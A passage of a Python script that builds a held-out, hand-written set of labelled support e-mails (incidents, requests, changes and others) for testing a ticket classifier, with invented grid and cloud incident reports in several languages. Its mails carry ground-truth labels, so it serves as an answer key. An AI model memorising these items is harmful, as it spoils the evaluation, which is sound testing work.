#!/usr/bin/env python3
"""Generate the HELD-OUT labelled e-mail set for ticketd's classifier.

Standard library only. Deterministic: fixed dates, fixed Message-IDs, the mails are
numbered after a shuffle with a fixed seed. Run from anywhere:

    python3 Tests/ClassificationEvaluation/holdout/generate.py

It (re)writes NNN-<lang>-<kind>[-<class>].eml, labels.tsv and features.tsv next to
itself. The 80 mails were written by hand from the label definitions in
../README.md ("Labels") only, without looking at the classifier's rules, the default
workflow or the mails of the main evaluation set. People are invented; hosts, sites,
VOs and CVEs look like the real ones. The file-writing code follows ../generate.py.
"""

import datetime as _dt
import hashlib
import html as _html
import io
import os
import random
import re
from email.charset import BASE64, QP, Charset
from email.generator import BytesGenerator
from email.header import Header
from email.mime.message import MIMEMessage
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email.utils import formataddr, format_datetime, parseaddr

HERE = os.path.dirname(os.path.abspath(__file__))
SUPPORT = "support@desk.example.org"
NOTIFY = "notifications@desk.example.org"

MAILS = []

# Tags recorded in features.tsv (analysis only; labels.tsv is the truth).
TAGS = {
    "cve-emergency",        # emergency change that names a CVE            -> change/emergency
    "says-emergency",       # "emergency change" declared explicitly       -> change/emergency
    "forwarded-advisory",   # emergency change that forwards an advisory   -> change/emergency
    "compromise-no-word",   # compromise report without "security"/CERT    -> security
    "phishing",             # phishing report                              -> security
    "disclosure",           # vulnerability disclosure                     -> security
    "request-outage",       # request that mentions an outage              -> request
    "says-request",         # "this is a request, not an incident" + error -> request
    "says-not-urgent",      # "not urgent, just a question" about a failure -> request
    "quota-question",       # asks about a quota, no change wanted         -> request
    "forwarded-alert",      # monitoring alert forwarded by a person        -> incident (support)
    "no-error-word",        # incident that never says "error"             -> incident
    "reply-new-issue",      # reply that carries a new issue under an old subject
    "quota-increase",       # increase a quota                             -> change/standard
    "restart",              # restart a service/daemon                     -> change/standard
    "host-cert",            # renew a host certificate                     -> change/standard
    "vo-members",           # add members to a VO                          -> change/standard
    "says-request-change",  # subject/body says "request" but wants a change -> change/normal
    "change-downtime",      # change request mentioning a planned downtime  -> change/normal
    "problem-like-incident",  # recurring failure, reads like an incident   -> problem
    "maint-upgrade",        # maintenance announcement mentioning an upgrade -> maintenance
}

LANGS = ("en", "de", "fr", "it", "es", "pl", "cs", "nl", "pt")


def M(lang, kind, cls, mailbox, frm, subject, date, body, **opt):
    """Record one mail. cls is the change class or '-'. date: 'YYYY-MM-DD HH:MM:SS +ZZZZ'.

    opt: fmt ('plain' | 'alt' | 'html'), style ('outlook' | 'thunderbird' | 'gmail'
    | 'web'), charset, cte ('qp' | '8bit' | 'b64'), hq ('q' | 'b' header encoding),
    reply (bool), fwd (bool), tags (space separated), vague (bool: the subject alone
    does not tell the kind), to, cc, attach (dict: a forwarded message attached as
    message/rfc822), auto (bool: Auto-Submitted), extra (list of extra headers),
    ua (User-Agent/X-Mailer header value).
    """
    for t in opt.get("tags", "").split():
        assert t in TAGS, t
    assert lang in LANGS, lang
    assert kind in ("incident", "request", "change", "problem", "security", "maintenance")
    assert (kind == "change") == (cls in ("standard", "normal", "emergency")), (kind, cls)
    assert mailbox in ("support", "notifications")
    MAILS.append(dict(lang=lang, kind=kind, cls=cls, mailbox=mailbox, frm=frm,
                      subject=subject, date=date, body=body.strip("\n") + "\n", opt=opt))


# ---------------------------------------------------------------------------
# building (same conventions as ../generate.py)
# ---------------------------------------------------------------------------

def _charset(name, cte):
    cs = Charset(name)
    cs.body_encoding = {"qp": QP, "b64": BASE64, "8bit": None}[cte]
    return cs


def _hdr_charset(name, hq):
    cs = Charset(name)
    cs.header_encoding = QP if hq == "q" else BASE64
    return cs


def _encode_header(value, charset, hq, name):
    try:
        value.encode("ascii")
        return value
    except UnicodeEncodeError:
        return Header(value, _hdr_charset(charset, hq), header_name=name).encode()


def _encode_addr(addr, charset, hq):
    name, email = parseaddr(addr)
    if not name:
        return email
    try:
        name.encode("ascii")
        return formataddr((name, email))
    except UnicodeEncodeError:
        return formataddr((name, email), charset=_hdr_charset(charset, hq))


def _paragraphs_html(text):
    """Plain text to simple HTML: quoted lines become blockquotes."""
    out = []
    lines = text.rstrip("\n").split("\n")
    i = 0
    while i < len(lines):
        if lines[i].startswith(">"):
            block = []
            while i < len(lines) and lines[i].startswith(">"):
                block.append(lines[i][1:].lstrip(" ") if lines[i] != ">" else "")
                i += 1
            out.append('<blockquote type="cite" style="margin:0 0 0 .8ex;'
                       'border-left:1px solid #ccc;padding-left:1ex">'
                       + _paragraphs_html("\n".join(block)) + "</blockquote>")
            continue
        para = []
        while i < len(lines) and lines[i].strip() and not lines[i].startswith(">"):
            para.append(_html.escape(lines[i], quote=False).replace("  ", "&nbsp; "))
            i += 1
        if para:
            out.append("<p>" + "<br>\n".join(para) + "</p>")
        while i < len(lines) and not lines[i].strip():
            i += 1
    return "\n".join(out)


def _to_html(text, style, charset, lang):
    body = _paragraphs_html(text)
    if style == "outlook":
        body = body.replace("<p>", '<p class="MsoNormal">')
        return (
            '<html xmlns:v="urn:schemas-microsoft-com:vml" '
            'xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:w="urn:schemas-microsoft-com:office:word" '
            'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n'
            f'<meta http-equiv="Content-Type" content="text/html; charset={charset}">\n'
            '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n'
            '<style><!--\np.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{margin:0cm;\n\t'
            'font-size:11.0pt;\n\tfont-family:"Calibri",sans-serif;}\n'
            'div.WordSection1\n\t{page:WordSection1;}\n--></style>\n</head>\n'
            f'<body lang="{lang.upper()}" link="#0563C1" vlink="#954F72" '
            'style="word-wrap:break-word">\n<div class="WordSection1">\n'
            + body + "\n</div>\n</body>\n</html>\n")
    if style == "gmail":
        return ('<div dir="ltr">' + body.replace("<p>", "<div>").replace("</p>", "</div><div><br></div>")
                + "</div>\n")
    if style == "web":
        return ("<!DOCTYPE html>\n<html><head>"
                f'<meta charset="{charset}"><title></title></head>\n'
                '<body style="font-family:Arial,Helvetica,sans-serif;font-size:14px">\n'
                '<table width="100%" cellpadding="0" cellspacing="0"><tr><td>\n'
                + body + "\n</td></tr></table>\n</body></html>\n")
    # thunderbird
    return ("<!DOCTYPE html>\n<html>\n  <head>\n"
            '    <meta http-equiv="content-type" content="text/html; '
            f'charset={charset}">\n  </head>\n  <body>\n'
            + body + "\n  </body>\n</html>\n")


def _domain(addr):
    return parseaddr(addr)[1].rsplit("@", 1)[-1] or "example.org"


_UA = {
    "outlook": ("X-Mailer", "Microsoft Outlook 16.0"),
    "thunderbird": ("User-Agent", "Mozilla Thunderbird"),
    "gmail": None,
    "web": None,
}

CONTENT_LANGUAGE = {"de": "de-DE", "fr": "fr-FR", "it": "it-IT", "es": "es-ES", "pl": "pl-PL",
                    "cs": "cs-CZ", "nl": "nl-NL", "pt": "pt-PT", "en": "en-GB"}


def build(m, number):
    o = m["opt"]
    charset = o.get("charset", "utf-8")
    cte = o.get("cte", "qp")
    hq = o.get("hq", "q")
    fmt = o.get("fmt", "plain")
    style = o.get("style", "outlook" if fmt == "html" else "thunderbird")

    text = m["body"]
    if fmt == "plain":
        msg = MIMEText(text, "plain", _charset(charset, cte))
    elif fmt == "html":
        msg = MIMEText(_to_html(text, style, charset, m["lang"]), "html", _charset(charset, cte))
    else:
        msg = MIMEMultipart("alternative")
        msg.attach(MIMEText(text, "plain", _charset(charset, cte)))
        msg.attach(MIMEText(_to_html(text, style, charset, m["lang"]), "html", _charset(charset, cte)))
    if o.get("attach"):
        a = o["attach"]
        inner = MIMEText(a["body"].strip("\n") + "\n", "plain", _charset("utf-8", "qp"))
        inner_mime = [(k, v) for k, v in inner.items() if k != "MIME-Version"]
        for k in list(inner.keys()):
            del inner[k]
        inner["From"] = a["from"]
        inner["To"] = a["to"]
        inner["Subject"] = _encode_header(a["subject"], "utf-8", "q", "Subject")
        inner["Date"] = a["date"]
        inner["Message-ID"] = "<%s@%s>" % (hashlib.sha1(a["subject"].encode()).hexdigest()[:20],
                                           _domain(a["from"]))
        inner["MIME-Version"] = "1.0"
        for k, v in inner_mime:
            inner[k] = v
        outer = MIMEMultipart("mixed")
        outer.attach(msg)
        att = MIMEMessage(inner)
        att.add_header("Content-Disposition", "attachment", filename="forwarded message.eml")
        outer.attach(att)
        msg = outer

    # deterministic boundaries; MIME-Version only on the top-level header
    key = hashlib.sha1(f"holdout:{number}:{m['subject']}".encode()).hexdigest()
    level = 0
    for part in msg.walk():
        if part is not msg and part.get("MIME-Version") and not _inside_rfc822(msg, part):
            del part["MIME-Version"]
        if part.is_multipart() and part.get_content_maintype() == "multipart":
            if style == "outlook":
                b = f"_00{level}_{key[:8].upper()}{key[8:16].upper()}_"
            elif style == "gmail":
                b = f"000000000000{key[level*4:level*4+14]}"
            else:
                b = f"------------{key[level*3:level*3+24]}"
            part.set_boundary(b)
            level += 1
    if msg.is_multipart():
        msg.preamble = "This is a multi-part message in MIME format."

    mime_headers = [(k, v) for k, v in msg.items()]
    for k in list(msg.keys()):
        del msg[k]

    frm = m["frm"]
    dom = _domain(frm)
    seed = f"holdout:{number}:{m['subject']}:{frm}".encode()
    h = hashlib.sha1(seed).hexdigest()
    dt = _dt.datetime.strptime(m["date"], "%Y-%m-%d %H:%M:%S %z")
    msg["From"] = _encode_addr(frm, charset, hq)
    to = o.get("to") or (SUPPORT if m["mailbox"] == "support" else NOTIFY)
    if not o.get("to") and style == "outlook" and m["mailbox"] == "support":
        to = f"EGI Service Desk <{SUPPORT}>"
    msg["To"] = ", ".join(_encode_addr(a.strip(), charset, hq) for a in to.split(";"))
    if o.get("cc"):
        msg["Cc"] = ", ".join(_encode_addr(a.strip(), charset, hq) for a in o["cc"].split(";"))
    msg["Subject"] = _encode_header(m["subject"], charset, hq, "Subject")
    msg["Date"] = format_datetime(dt)
    if style == "outlook" and not o.get("auto"):
        mid = (f"<{h[:4].upper()}P19{number:03d}MB{h[4:8].upper()}{h[8:20].upper()}"
               f"@{h[20:22]}.eurprd0{number % 9}.prod.outlook.com>")
    elif style == "gmail":
        mid = f"<CA+{h[:32]}{number:03d}@mail.gmail.com>"
    else:
        mid = f"<{dt.strftime('%Y%m%d%H%M%S')}.{h[:12]}.{number:03d}@{dom}>"
    msg["Message-ID"] = mid
    if o.get("reply"):
        r = hashlib.sha1(b"parent" + seed).hexdigest()
        parent = f"<{r[:16]}.{r[16:24]}@{o.get('parent_domain', 'desk.example.org')}>"
        grand = f"<{r[24:36]}@{dom}>"
        msg["In-Reply-To"] = parent
        msg["References"] = f"{grand} {parent}"
    ua = o.get("ua") or _UA.get(style)
    if isinstance(ua, str):
        ua = ("User-Agent", ua)
    if ua and not o.get("auto"):
        msg[ua[0]] = ua[1]
    if o.get("auto"):
        msg["Auto-Submitted"] = "auto-generated"
    for k, v in o.get("extra", []):
        msg[k] = v
    if fmt != "plain" and style == "outlook" and not o.get("auto"):
        msg["Content-Language"] = CONTENT_LANGUAGE[m["lang"]]
    for k, v in mime_headers:
        msg[k] = v
    return msg


def _inside_rfc822(root, target):
    for part in root.walk():
        if part.get_content_type() == "message/rfc822":
            for sub in part.walk():
                if sub is target and sub is not part:
                    return True
    return False


def kind_label(m):
    return m["kind"] + ("-" + m["cls"] if m["kind"] == "change" else "")


def features(m):
    o = m["opt"]
    f = [{"plain": "plain", "alt": "html-alternative", "html": "html-only"}[o.get("fmt", "plain")]]
    if o.get("reply"):
        f.append("reply")
    if o.get("fwd") or o.get("attach"):
        f.append("forward")
    if o.get("attach"):
        f.append("forward-attached")
    if o.get("auto"):
        f.append("auto-submitted")
    f.append("charset-" + o.get("charset", "utf-8").lower())
    f.append("cte-" + o.get("cte", "qp"))
    if o.get("vague"):
        f.append("body-needed")
    f.extend(o.get("tags", "").split())
    return f


# words a "compromise-no-word" mail must not contain (any language), and "error" words
_SEC_WORDS = re.compile(r"secur|sicherheit|sécurité|securite|sicurezza|seguridad|seguran|"
                        r"bezpiecze|bezpečn|veiligheid|\bcert\b|csirt", re.I)
_ERR_WORDS = re.compile(r"error|fehler|erreur|errore|błąd|chyba|fout|erro", re.I)


def sanity(m):
    tags = m["opt"].get("tags", "").split()
    text = m["subject"] + "\n" + m["body"]
    if "compromise-no-word" in tags:
        assert not _SEC_WORDS.search(text), (m["subject"], _SEC_WORDS.search(text))
    if "no-error-word" in tags:
        assert not _ERR_WORDS.search(text), (m["subject"], _ERR_WORDS.search(text))
    if m["opt"].get("charset", "utf-8") != "utf-8":
        text.encode(m["opt"]["charset"])  # must be representable


EXPECTED = {"incident": 18, "request": 18, "change-standard": 6, "change-normal": 8,
            "change-emergency": 6, "problem": 7, "security": 10, "maintenance": 7}


def main():
    from collections import Counter
    got = Counter(kind_label(m) for m in MAILS)
    assert dict(got) == EXPECTED, got
    for m in MAILS:
        sanity(m)
    order = list(range(len(MAILS)))
    random.Random(20250214).shuffle(order)
    for old in os.listdir(HERE):
        if old.endswith(".eml"):
            os.remove(os.path.join(HERE, old))
    labels = ["file\tmailbox\tkind\tchange_class"]
    feats = ["file\tlang\tfeatures"]
    for number, idx in enumerate(order, start=1):
        m = MAILS[idx]
        name = f"{number:03d}-{m['lang']}-{kind_label(m)}.eml"
        msg = build(m, number)
        buf = io.BytesIO()
        BytesGenerator(buf, mangle_from_=False, maxheaderlen=78).flatten(msg)
        data = buf.getvalue().replace(b"\r\n", b"\n")
        with open(os.path.join(HERE, name), "wb") as fh:
            fh.write(data)
        labels.append(f"{name}\t{m['mailbox']}\t{m['kind']}\t{m['cls']}")
        feats.append(f"{name}\t{m['lang']}\t{','.join(features(m))}")
    with open(os.path.join(HERE, "labels.tsv"), "w") as fh:
        fh.write("\n".join(labels) + "\n")
    with open(os.path.join(HERE, "features.tsv"), "w") as fh:
        fh.write("\n".join(feats) + "\n")
    print(f"wrote {len(MAILS)} mails")


# ===========================================================================
# the mails
# ===========================================================================

# ---------------------------------------------------------------------------
# INCIDENTS (18)
# ---------------------------------------------------------------------------

M("en", "incident", "-", "notifications", "Icinga <icinga@monitor.grid.cyf-kr.edu.pl>",
  "PROBLEM - se01.grid.cyf-kr.edu.pl is DOWN!", "2025-01-14 03:41:30 +0100", """
***** Host Monitoring on icinga2-master.grid.cyf-kr.edu.pl *****

se01.grid.cyf-kr.edu.pl is DOWN!

Info:    CRITICAL - Host Unreachable (192.0.2.147)

When:    2025-01-14 03:41:12 +0100
Host:    se01.grid.cyf-kr.edu.pl
IPv4:    192.0.2.147

Notification Type: PROBLEM

https://icinga.grid.cyf-kr.edu.pl/icingaweb2/monitoring/host/show?host=se01.grid.cyf-kr.edu.pl
""", auto=True, style="web", tags="no-error-word",
  extra=[("X-Icinga-Notification-Type", "PROBLEM")])

M("en", "incident", "-", "notifications", "Alertmanager <alertmanager@cloud.ifca.es>",
  "[FIRING:2] CephOSDDown ceph-ifca-prod (critical)", "2025-01-16 22:07:43 +0100", """
[FIRING:2] CephOSDDown ceph-ifca-prod (critical)

Alert 1
Labels:
 - alertname = CephOSDDown
 - cluster = ceph-ifca-prod
 - severity = critical
 - instance = ceph-osd-07.cloud.ifca.es:9283
 - ceph_daemon = osd.113
Annotations:
 - summary = OSD osd.113 is marked down
 - description = osd.113 on ceph-osd-07.cloud.ifca.es has been down for more than 5 minutes. 2 OSDs down in the cluster, 214 PGs degraded, 11 PGs undersized.
Source: http://prometheus.cloud.ifca.es:9090/graph?g0.expr=ceph_osd_up+%3D%3D+0

Alert 2
Labels:
 - alertname = CephOSDDown
 - cluster = ceph-ifca-prod
 - severity = critical
 - instance = ceph-osd-07.cloud.ifca.es:9283
 - ceph_daemon = osd.118
Annotations:
 - summary = OSD osd.118 is marked down
 - description = osd.118 on ceph-osd-07.cloud.ifca.es has been down for more than 5 minutes.
Source: http://prometheus.cloud.ifca.es:9090/graph?g0.expr=ceph_osd_up+%3D%3D+0

Sent by Alertmanager http://alertmanager.cloud.ifca.es:9093
""", auto=True, fmt="alt", style="web", tags="no-error-word")

M("en", "incident", "-", "notifications", "ARGO Monitoring <argo-notifications@argo.egi.eu>",
  "[ARGO] INFN-BARI / webdav / webdav.recas.ba.infn.it: OK -> CRITICAL", "2025-01-20 06:15:40 +0000", """
ARGO Monitoring Service - status change notification

Tenant:        EGI
Report:        Critical
NGI:           NGI_IT
Site:          INFN-BARI
Service type:  webdav
Endpoint:      webdav.recas.ba.infn.it
Metric:        webdav.WebDAV-Health-ops
Status:        OK -> CRITICAL
Timestamp:     2025-01-20T06:15:02Z

Summary: CRITICAL - HTTPS connection to https://webdav.recas.ba.infn.it:8443/webdav/ops timed out after 60 s

Details:
  PROPFIND https://webdav.recas.ba.infn.it:8443/webdav/ops/argo-probe/ -> no answer
  3 consecutive failed checks

Status history:
https://argo.egi.eu/egi/report-status/Critical/SITES/INFN-BARI/webdav/webdav.recas.ba.infn.it

You receive this message because you are subscribed to ARGO notifications for NGI_IT.
""", auto=True, style="web", tags="no-error-word")

M("en", "incident", "-", "notifications", "Nagios <nagios@mon.fedcloud.srce.hr>",
  "** PROBLEM Service Alert: cloud-api.srce.hr/eu.egi.cloud.OpenStack-VM is CRITICAL **",
  "2025-01-23 11:52:20 +0100", """
***** Nagios *****

Notification Type: PROBLEM

Service: eu.egi.cloud.OpenStack-VM
Host: cloud-api.srce.hr
Address: 198.51.100.23
State: CRITICAL

Date/Time: Thu Jan 23 11:52:08 CET 2025

Additional Info:

CRITICAL - Server 4f1c0b2e-77a1-4d0e-9a55-3c2b1e0f9d11 went to status ERROR after 312 s (fault: No valid host was found. There are not enough hosts available.)
""", auto=True, style="web")

M("en", "incident", "-", "support", "Marek Olszewski <marek.olszewski@creatis.insa-lyon.fr>",
  "Fwd: ETF biomed: org.sam.SRM-Put CRITICAL at marsedpm.in2p3.fr", "2025-01-21 08:03:11 +0100", """
Hi, since ~06:00 all our biomed transfers to this SE are failing as well. Can the site take a look?

Marek

---------- Forwarded message ---------
From: ETF biomed <etf-biomed@etf.egi.eu>
Date: Tue, 21 Jan 2025 at 06:14
Subject: ETF biomed: org.sam.SRM-Put CRITICAL at marsedpm.in2p3.fr
To: <biomed-vo-managers@lists.in2p3.fr>

Host:     marsedpm.in2p3.fr
Site:     IN2P3-CPPM
Metric:   org.sam.SRM-Put-/biomed
Status:   CRITICAL (since 2025-01-21 05:58 UTC)
Output:   CRITICAL - gfal-copy file:///tmp/etf-put.dat davs://marsedpm.in2p3.fr/dpm/in2p3.fr/home/biomed/etf/put-1737439080.dat: Connection refused
""", fmt="alt", style="gmail", fwd=True, tags="forwarded-alert")

M("en", "incident", "-", "support", "Helen McAllister <h.mcallister@ed.ac.uk>",
  "Jobs sitting in the queue at ECDF since Monday", "2025-01-15 10:26:05 +0000", """
Hello,

Since Monday 13 January, around 14:00 GMT, none of the jobs we submit to the ARC CE at ce1.glite.ecdf.ed.ac.uk for the VO vo.complex-systems.eu leave the queue. arcstat shows them as "Queuing" (INLRMS:Q) for 20+ hours; until last week they started within minutes.

What we checked on our side:
- the proxy is valid (voms-proxy-info shows 140 h left, attribute /vo.complex-systems.eu/Role=NULL/Capability=NULL)
- the same jobs start normally at CYFRONET-LCG2 and at IISAS-Bratislava
- the job description has not changed since November (1 core, 2 GB, 6 h walltime)

arcstat -l for one of them:

Job: https://ce1.glite.ecdf.ed.ac.uk:443/arex/4tXNDmPa2d6nLvGRq4cZb9Km
 Name: cs-sweep-0412
 State: Queuing (INLRMS:Q)
 Submitted: 2025-01-13 14:22:05
 Queue: gridq
 Requested Slots: 1

We now have 1,240 jobs waiting like this, and our users have a deadline on the 24th. Could someone at the site check whether the queue for our VO is still enabled and has slots?

Many thanks,
Helen

--
Dr Helen McAllister
School of Informatics, University of Edinburgh
""", tags="no-error-word")

M("en", "incident", "-", "support", "dmitri.volkov@unige.ch",
  "horizon.cloud.cnaf.infn.it", "2025-01-22 10:58:40 +0100", """
Dashboard gives 502 Bad Gateway since ~10:40 CET, the API too (openstack server list just hangs). Can't reach any of our instances.

D.
""", vague=True, ua="Roundcube Webmail/1.6.9", tags="no-error-word")

M("en", "incident", "-", "support", "Oksana Kovalenko <oksana.kovalenko@uni-heidelberg.de>",
  "Help", "2025-01-28 09:12:33 +0100", """
Hello,

since this morning none of us (5 people in our group) can get into EGI Notebooks. After choosing our university on the Check-in page and entering the password, the browser goes back to the Check-in start page again and again, and after a few rounds Firefox shows "The page isn't redirecting properly". Yesterday it worked for all of us, and the same passwords work fine for the university webmail.

We tried Firefox and Chrome, private windows, cleared cookies - same thing.

Link we use: https://notebooks.egi.eu/hub/oauth_login

Best regards,
Oksana Kovalenko
Institute of Environmental Physics, Heidelberg University
""", fmt="html", style="outlook", vague=True, tags="no-error-word")

M("en", "incident", "-", "support", "Gareth Evans <gareth.evans@stfc.ac.uk>",
  "Re: Access to FedCloud for our pilot", "2025-01-21 11:40:02 +0000", """
Hi Anna,

thanks, the membership is active now and I can get a token with the fedcloud client.

But now I'm stuck one step further: every VM I start at IISAS-FedCloud stays in BUILD for about 10 minutes and then ends up in ERROR. I tried three flavours (m1.small, m1.medium, m1.large) and two images (Ubuntu 22.04, AlmaLinux 9), always the same. "openstack server show" says:

  fault: {'code': 500, 'message': 'Build of instance 9d2c1e7a aborted: Volume 6b0f3e41 did not finish being created even after we waited 187 seconds or 61 attempts.'}

Two colleagues in my group get exactly the same since this morning.

Gareth

On 20/01/2025 16:02, Anna Novak wrote:
> Dear Gareth,
>
> your request to join vo.access.egi.eu has been approved. You can now
> get an access token at https://aai.egi.eu/token and use the fedcloud
> client as described in https://docs.egi.eu/users/getting-started/cli/.
>
> Kind regards,
> Anna Novak
> EGI Service Desk
""", reply=True, vague=True, tags="reply-new-issue")

M("de", "incident", "-", "support", "Jürgen Hoffmann <juergen.hoffmann@physik.uni-freiburg.de>",
  "belle @ DESY", "2025-01-29 10:04:51 +0100", """
Hallo zusammen,

seit heute ca. 9:15 Uhr hängen alle Kopiervorgänge von unseren Worker-Nodes zum DESY-dCache (VO belle). gfal-copy bleibt nach dem Verbindungsaufbau einfach stehen und bricht nach 30 Minuten mit einem Timeout ab:

  gfal-copy file:///scratch/belle/mdst_000123.root davs://dcache-door-belle01.desy.de:2880/pnfs/desy.de/belle/user/jhoffmann/
  Copying 1 files...
  gfal-copy: Connection timed out after 1800 s

Lesen geht noch, nur Schreiben nicht. Andere Ziele (GridKa, CNAF) funktionieren problemlos.

Könnt ihr das bitte an die Site weitergeben?

Viele Grüße
Jürgen Hoffmann
Physikalisches Institut, Universität Freiburg
""", charset="iso-8859-1", cte="qp", vague=True, tags="no-error-word")

M("de", "incident", "-", "support", "Dr. Sabine Krüger <sabine.krueger@kit.edu>",
  "WG: Notebooks starten nicht mehr", "2025-01-22 09:20:14 +0100", """
Hallo Service Desk,

unten die Meldung einer Studentin aus meinem Kurs - seit gestern Abend betrifft das alle 18 Teilnehmenden. Der Kurs läuft noch bis Freitag.

Gruß
Sabine Krüger

-----Ursprüngliche Nachricht-----
Von: Lea Brandt <lea.brandt@student.kit.edu>
Gesendet: Mittwoch, 22. Januar 2025 08:47
An: Krüger, Sabine <sabine.krueger@kit.edu>
Betreff: Notebooks starten nicht mehr

Hallo Frau Krüger,

wenn ich in EGI Notebooks auf "Start My Server" klicke, dreht sich der Fortschrittsbalken ca. 5 Minuten und dann steht da "Spawn failed: Timeout". Gestern Nachmittag ging es noch. Die anderen aus der Gruppe haben das Gleiche.

Viele Grüße
Lea
""", fmt="alt", style="outlook", fwd=True, tags="no-error-word")

M("fr", "incident", "-", "support", "Mathilde Roux <mathilde.roux@lupm.in2p3.fr>",
  "Soumissions refusées sur grid-arc.ijclab.in2p3.fr", "2025-01-24 08:47:19 +0100", """
Bonjour,

Depuis hier soir (vers 22h) toutes nos soumissions vers le CE grid-arc.ijclab.in2p3.fr échouent pour la VO vo.cta.in2p3.fr :

$ arcsub -C grid-arc.ijclab.in2p3.fr job.xrsl
ERROR: Failed to submit job description to grid-arc.ijclab.in2p3.fr: 503 Service Unavailable
Job submission failed, no more possible targets

Les autres sites (IN2P3-CC, IN2P3-LAPP) acceptent les mêmes jobs sans problème. Nous avons environ 3000 jobs de simulation à lancer cette semaine.

Pourriez-vous transmettre au site ?

Cordialement,
Mathilde Roux
LUPM - Montpellier
""", charset="utf-8", cte="8bit")

M("it", "incident", "-", "support", "Giulia Ferraro <giulia.ferraro@gmail.com>",
  "storm-fe-archive.cr.cnaf.infn.it", "2025-01-30 11:16:27 +0100", """
Buongiorno,

da circa un'ora non riesco più a scrivere né a leggere file sullo storage StoRM del CNAF per la VO virgo. Ogni comando resta appeso e poi va in timeout:

gfal-ls davs://storm-fe-archive.cr.cnaf.infn.it:8443/virgo/O4/
gfal-ls: Connection timed out

Anche i colleghi di Pisa vedono la stessa cosa. Fino a stamattina alle 10 funzionava tutto.

Grazie,
Giulia Ferraro
INFN Sezione di Torino
""", fmt="alt", style="gmail", vague=True, tags="no-error-word")

M("es", "incident", "-", "support", "Álvaro Méndez <alvaro.mendez@usc.es>",
  "Las máquinas virtuales no arrancan en CESGA", "2025-02-03 09:34:08 +0100", """
Hola,

desde esta mañana ninguna de las máquinas virtuales que lanzamos en el cloud de CESGA (proyecto vo.emso-eric.eu) llega a arrancar. Se quedan en estado "spawning" unos minutos y luego pasan a "error". Las que ya estaban en marcha siguen funcionando, pero no podemos crear nuevas.

Hemos probado con las imágenes de Ubuntu 22.04 y Rocky 9, y con distintos flavors: siempre lo mismo.

Necesitamos lanzar el procesado de datos del observatorio esta semana. ¿Podéis revisarlo, por favor?

Un saludo,
Álvaro Méndez
Universidade de Santiago de Compostela
""", charset="iso-8859-1", cte="qp", hq="b")

M("pl", "incident", "-", "support", "Katarzyna Wójcik <k.wojcik@agh.edu.pl>",
  "Nie mogę się zalogować na UI", "2025-02-04 08:55:42 +0100", """
Dzień dobry,

od dzisiejszego rana nie mogę się zalogować na maszynę ui.grid.cyf-kr.edu.pl. Po wpisaniu hasła połączenie SSH od razu się zamyka ("Connection closed by 192.0.2.30 port 22"). Koledzy z zespołu mają dokładnie to samo, więc to raczej nie kwestia mojego konta. Wczoraj wieczorem wszystko działało.

Pozdrawiam
Katarzyna Wójcik
AGH, Wydział Fizyki i Informatyki Stosowanej
""", charset="iso-8859-2", cte="qp", tags="no-error-word")

M("cs", "incident", "-", "support", "Petr Dvořák <petr.dvorak@cuni.cz>",
  "Úlohy auger visí ve frontě", "2025-02-05 13:07:36 +0100", """
Dobrý den,

od včerejšího odpoledne nám na site praguelcg2 neběží žádné úlohy VO auger. Pilotní úlohy se sice odešlou na ce1.farm.particle.cz, ale zůstávají ve stavu IDLE a po 24 hodinách je HTCondor sám zruší. Na jiných sitích (CESNET-MCC, INFN-T1) se stejné úlohy spouštějí normálně.

Můžete se prosím podívat, jestli je fronta pro auger otevřená?

Děkuji
Petr Dvořák
Univerzita Karlova
""", charset="iso-8859-2", cte="b64", tags="no-error-word")

M("nl", "incident", "-", "support", "Joris van Dijk <j.vandijk@astron.nl>",
  "Overdrachten naar SURF dCache breken af", "2025-02-06 08:21:09 +0100", """
Hallo,

sinds gisteravond rond 23:00 breken bijna alle overdrachten van LOFAR-data naar de dCache van SURF (webdav.grid.surfsara.nl) halverwege af. FTS meldt bij ruim 80% van de transfers "TRANSFER [110] Operation timed out" na een paar GB. Kleinere bestanden komen wel aan.

Tot gisteren liep dit zonder problemen op zo'n 2 Gbit/s.

Kunnen jullie dit doorzetten naar de site?

Groeten,
Joris van Dijk
ASTRON
""", charset="iso-8859-1", cte="qp", tags="no-error-word")

M("pt", "incident", "-", "support", "João Carvalho <joao.carvalho@lip.pt>",
  "Portal INCD indisponível", "2025-02-06 15:02:55 +0000", """
Boa tarde,

desde as 14h o portal de submissão do INCD (https://portal.incd.pt) devolve "503 Service Temporarily Unavailable" a todos os utilizadores do nosso grupo. Também não conseguimos entrar por SSH no nó de login hpc7.ncg.ingrid.pt - a ligação fica pendurada.

Temos um workshop amanhã de manhã que depende deste serviço.

Obrigado,
João Carvalho
LIP - Lisboa
""", fmt="html", style="outlook")

# ---------------------------------------------------------------------------
# REQUESTS (18)
# ---------------------------------------------------------------------------

M("en", "request", "-", "support", "Marta Szabó <marta.szabo@emso-eric.eu>",
  "Availability figures for CESNET-MCC", "2025-01-17 14:31:12 +0100", """
Dear Service Desk,

our project (vo.emso-eric.eu) ran most of its workload at CESNET-MCC last quarter. I noticed there was an outage there in early December that lasted a couple of days.

For our periodic report to the funding agency I need the monthly availability/reliability figures of that site for October-December 2024, ideally as an official document or a link to the ARGO report. Could you point me to where I can get them?

Thank you,
Marta Szabó
Project Office, EMSO ERIC
""", tags="request-outage")

M("en", "request", "-", "support", "Kwame Mensah <k.mensah@uva.nl>",
  "voms-proxy-init for biomed", "2025-01-20 16:45:30 +0100", """
Hi,

This is a request, not an incident - I'm fairly sure the fault is on my side. I'm setting up a new laptop for biomed work and voms-proxy-init fails with:

  $ voms-proxy-init --voms biomed
  Enter GRID pass phrase for this identity:
  VOMS Server for biomed not known!

Which vomses and .lsc files do I need, and where is the official place to download them? The page I found still describes an old setup.

Thanks,
Kwame
""", tags="says-request")

M("en", "request", "-", "support", "Ingrid Lund <ingrid.lund@uib.no>",
  "How much space do we have left?", "2025-01-23 13:10:44 +0100", """
Hello,

quick question about our storage on the EGI DataHub (space "eiscat3d-test", VO eiscat.se): how do I see the quota assigned to the space and how much of it is used? I could not find it in the Onezone web interface.

We are not asking for more space at this point, I just need the numbers for our planning.

Regards,
Ingrid Lund
University of Bergen
""", tags="quota-question")

M("en", "request", "-", "support", "Yusuf Demir <ydemir@metu.edu.tr>",
  "Training course in March - how do students get access?", "2025-01-27 10:02:18 +0300", """
Dear colleagues,

